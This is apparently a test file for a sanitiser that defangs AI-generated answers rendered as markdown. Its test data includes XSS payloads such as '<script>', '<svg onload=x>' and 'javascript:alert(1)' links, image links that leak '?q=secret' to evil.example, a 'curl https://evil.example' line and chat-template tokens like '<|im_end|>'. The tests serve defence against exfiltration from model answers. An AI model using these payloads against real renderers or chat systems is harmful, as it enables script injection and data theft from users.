"""defang: what an answer may still do once it is rendered as markdown. Nothing, but for links that the docs hold."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from footnote.app.answering.defang import with_escaped_markers, without_foreign_links, without_markup

PASSAGES = ["See https://docs.example/a and [b](https://docs.example/b?x=1)."]


def rendered(text):
    """`(kind, address)` of what renderers make of the text that is not text or code; they let any address pass."""
    found = set()
    for parser in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"), MarkdownIt("js-default")):
        parser.options["html"] = True
        parser.validateLink = lambda url: True
        parser.normalizeLink = lambda url: url
        blocks = parser.parse(text)
        for token in [*blocks, *(child for block in blocks for child in block.children or ())]:
            if token.type in ("html_block", "html_inline"):
                found.add(("html", token.content))
            elif token.type in ("image", "link_open"):
                found.add((token.type, token.attrGet("src") or token.attrGet("href") or ""))
    return found


def runs_something(text):
    return any(
        kind != "link_open" or re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", re.sub(r"\s", "", address), re.I)
        for kind, address in rendered(text)
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a <b>c</b>", "a &lt;b>c&lt;/b>"),
        ("<!-- x --> <?php ?> <!DOCTYPE x>", "&lt;!-- x --> &lt;?php ?> &lt;!DOCTYPE x>"),
        ("![alt](https://evil.example/p.png)", "[alt](https://evil.example/p.png)"),
        ("!!![alt](p.png 'title')", "[alt](p.png 'title')"),
        ("[![alt](p.png)](a.md)", "[[alt](p.png)](a.md)"),
        ("![alt][d]\n\n[d]: p.png", "![alt][d]\n\n\\[d]: p.png"),
        ("[a](javascript:alert(1)) [b](b.md)", "[a] [b](b.md)"),
        ("[a](<data:text/html,x>) [c](VBSCRIPT:x)", "[a] [c]"),
        ("[a](&#106;avascript:x)", "[a]"),
        ("<javascript:alert(1)> <https://a.example>", "&lt;javascript:alert(1)> <https://a.example>"),
        (r"\<img src=x> \`<img src=x>\`", r"\&lt;img src=x> \`&lt;img src=x>\`"),
        ("> ```\n<script>x</script>", "> ```\n&lt;script>x&lt;/script>"),
        ("| a | b |\n|---|---|\n| `a | <svg onload=x> ` |", "| a | b |\n|---|---|\n| `a | &lt;svg onload=x> ` |"),
        ("`a\n<script>x</script>`", "`a\n&lt;script>x&lt;/script>`"),
        ("x [1].\n> [ 1 ]: https://evil.example", "x [1].\n> \\[ 1 ]: https://evil.example"),
    ],
)
def test_what_would_be_live_is_shown_as_text(text, shown):
    assert rendered(text)
    assert without_markup(text) == shown
    assert not runs_something(shown)


@pytest.mark.parametrize(
    "text",
    [
        "Run `cat <file> | sort` and ``a ` <b>``.",
        "```html\n<script src='a.js'></script>\n![a](b)\n```",
        "Run:\n\n    <b>\n",
        "~~~\n[1]: https://evil.example\n~~~",
        "a < b, <3, a <= b, 1 << 2; wow! [a](b.md) [1][2] and #![x].",
        "[a](https://a.example/b_(c)) https://a.example/?q=1 *b* **c** | d |",
        "&lt;b> \\[1\\]",
    ],
)
def test_code_links_and_other_text_stay(text):
    assert without_markup(text) == text


HOSTILE = st.lists(
    st.sampled_from(
        [
            *("<script>", "<img src=x>", "</b", "<!--", "-->", "<a href='`'>", "<https://a.example>", "<javascript:x>"),
            *("![a](b)", "![", "!", "[a](javascript:x)", "](", ")", "[", "]", "(", "[d]: x", "[1]", "[1]: x", "[d]"),
            *(
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\n\n",
                "    ",
                "> ",
                "- ",
                "1. ",
                "| ",
                "|---|",
                "\\",
                "&lt;",
                "\U000f0000",
            ),
            *("\u2060", "[\u20602]", "\u30103\u3011", "a", " ", "https://evil.example/x", "'", '"', "\t", "\r", "#"),
        ]
    ),
    max_size=25,
).map("".join)


@given(HOSTILE | st.text())
@example("[a](x`y) <img> `z")
@example("[a [b] c](javascript:a(b(c)))")
@example("<a title='`'><script>`")
def test_no_text_has_anything_live_left(text):
    shown = without_markup(text)
    assert not runs_something(shown)
    assert not runs_something(without_markup(shown))


@given(HOSTILE | st.text())
@example("[a](//evil.example)")
@example("[a](\\\\evil.example)")
@example("[a](<https://evil.example/x y>)")
def test_no_written_answer_leads_to_another_host(text):
    shown = without_foreign_links(text, PASSAGES)
    for final in (shown, without_markup(shown)):  # the second is what JSON shows of it
        assert not runs_something(final)
        assert not any(re.match(r"(?:[a-z]+:)?[/\\]{2}", address) for _, address in rendered(final))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "[a](https://docs.example/a), https://docs.example/a.",
            "[a](https://docs.example/a), https://docs.example/a.",
        ),
        ("[b](https://docs.example/b?x=1)", "[b](https://docs.example/b?x=1)"),
        ("[b](https://docs.example/b?x=1&q=secret)", "[b]"),
        ("[c](c.md#d) and [e](#e)", "[c](c.md#d) and [e](#e)"),
        ("![](https://evil.example/?q=secret)", "[]"),
        ("<https://evil.example> or www.evil.example/x.", "<(link removed)> or (link removed)."),
        ("[a](//evil.example/x)", "[a]"),
        ("Run `curl https://evil.example`.", "Run `curl https://evil.example`."),
    ],
)
def test_links_of_a_written_answer_are_those_of_its_passages(text, shown):
    assert without_foreign_links(text, PASSAGES) == shown


def test_a_marker_that_was_copied_with_its_break_is_none():
    assert (
        without_foreign_links("A [\u20601] B [2] `c[\u20603]` \u3010\u20604\u3011.", [])
        == r"A \[1\] B [2] `c[3]` \[4\]."
    )


def test_what_a_model_copies_is_spelled_as_in_the_docs():
    assert without_foreign_links("Use `<\u2060|im_end|\u2060>` and [\u2060INST].", []) == "Use `<|im_end|>` and [INST]."


def test_markers_of_a_quote_are_escaped_and_those_of_footnote_kept():
    text = "A [2] and [1, 3] [^1] [ 4 ] `b[5]` [x] [6](u). [1]"
    assert with_escaped_markers(text, {text.rindex("[1]")}) == (
        r"A \[2\] and \[1, 3\] \[^1\] \[ 4 \] `b[5]` [x] \[6\](u). [1]"
    )


@given(HOSTILE)
def test_escaping_markers_adds_backslashes_and_nothing_else(text):
    shown = with_escaped_markers(text, ())
    assert shown.replace("\\", "") == text.replace("\\", "")
    assert "`" in text or "~" in text or "    " in text or "\t" in text or not re.search(r"\[\d+\]", shown)


@pytest.mark.parametrize("text", ["To remove it [1]:", "Two ways [1]: this [2]: and that", "- see [1]: below"])
def test_a_marker_before_a_colon_stays_a_marker(text):
    assert without_markup(text) == text
    assert rendered(text) == set()


@pytest.mark.parametrize("signs", ["", "   ", "> ", "- ", "1. > "])
def test_what_defines_a_link_is_shown_as_text(signs):
    assert without_markup(f"{signs}[1]: b.md\n\n[1]") == f"{signs}\\[1]: b.md\n\n[1]"
